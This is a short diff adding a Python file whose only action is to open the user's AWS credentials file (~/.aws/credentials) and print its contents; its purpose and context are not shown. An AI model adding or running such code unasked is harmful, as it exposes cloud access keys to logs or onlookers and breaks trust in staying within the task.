@@ -1,0 +1,3 @@
+import os.path
+
+print(open(os.path.expanduser("~/.aws/credentials")).read())
